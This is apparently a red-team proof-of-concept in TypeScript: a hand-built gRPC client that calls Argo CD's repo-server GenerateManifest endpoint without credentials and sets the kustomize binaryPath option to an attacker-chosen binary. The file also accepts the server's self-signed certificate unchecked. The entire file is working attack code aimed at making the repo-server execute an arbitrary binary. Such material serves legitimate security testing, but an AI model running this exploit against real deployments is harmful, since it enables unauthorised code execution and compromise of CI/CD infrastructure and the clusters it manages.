// A bare client of Argo CD's repo-server, for red-team tests: `node repo-server-call.ts <host:port> <repoURL> <path>
// <kustomize binary>` asks it to render the path of the repository with that kustomize binary (KustomizeOptions'
// binaryPath, still honoured by upstream) and prints the manifests as JSON. It holds no credential: the repo-server
// asks for none. Protobuf is written by hand (field numbers of reposerver/repository/repository.proto) so no Argo CD
// code is needed here.
import { connect } from 'node:tls';
import grpc from '@grpc/grpc-js';

/** A protobuf varint. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  while (rest > 0x7f) {
    bytes.push((rest & 0x7f) | 0x80);
    rest >>>= 7;
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** A length-delimited field (string or message). */
const field = (number: number, value: Buffer | string): Buffer => {
  const bytes = Buffer.isBuffer(value) ? value : Buffer.from(value, 'utf8');
  return Buffer.concat([varint((number << 3) | 2), varint(bytes.length), bytes]);
};

/** The strings of field 1 (ManifestResponse.manifests). */
function manifestsOf(response: Buffer): string[] {
  const found: string[] = [];
  let at = 0;
  const readVarint = () => {
    let value = 0;
    let shift = 0;
    for (;;) {
      const byte = response[at++] ?? 0;
      value += (byte & 0x7f) * 2 ** shift;
      shift += 7;
      if (byte < 0x80) return value;
    }
  };
  while (at < response.length) {
    const key = readVarint();
    const wire = key & 7;
    if (wire === 0) readVarint();
    else if (wire === 2) {
      const length = readVarint();
      if (key >>> 3 === 1) found.push(response.subarray(at, at + length).toString('utf8'));
      at += length;
    } else if (wire === 5) at += 4;
    else if (wire === 1) at += 8;
    else break;
  }
  return found;
}

/** The repo-server's self-signed certificate, trusted as is (the attacker needs nothing more). */
function serverCertificate(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port, rejectUnauthorized: false }, () => {
      const raw = socket.getPeerCertificate().raw;
      socket.end();
      resolve(`-----BEGIN CERTIFICATE-----\n${raw.toString('base64')}\n-----END CERTIFICATE-----\n`);
    });
    socket.on('error', reject);
  });
}

const [target = '', repoURL = '', path = '', binaryPath = ''] = process.argv.slice(2);
const [host = '', port = ''] = target.split(':');
const request = Buffer.concat([
  field(1, field(1, repoURL)),
  field(2, 'main'),
  Buffer.from([3 << 3, 1]),
  field(5, 'probe'),
  field(8, 'default'),
  field(10, Buffer.concat([field(1, repoURL), field(2, path), field(4, 'main'), field(8, Buffer.alloc(0))])),
  field(13, field(2, binaryPath)),
]);
const ca = await serverCertificate(host, Number(port));
const client = new grpc.Client(
  target,
  grpc.credentials.createSsl(Buffer.from(ca), null, null, { checkServerIdentity: () => undefined }),
);
client.makeUnaryRequest(
  '/repository.RepoServerService/GenerateManifest',
  (value: Buffer) => value,
  (value: Buffer) => value,
  request,
  (error, response) => {
    client.close();
    if (error || !response) {
      process.stderr.write(`${error?.message ?? 'no answer'}\n`);
      process.exit(1);
    }
    process.stdout.write(JSON.stringify(manifestsOf(response)));
  },
);
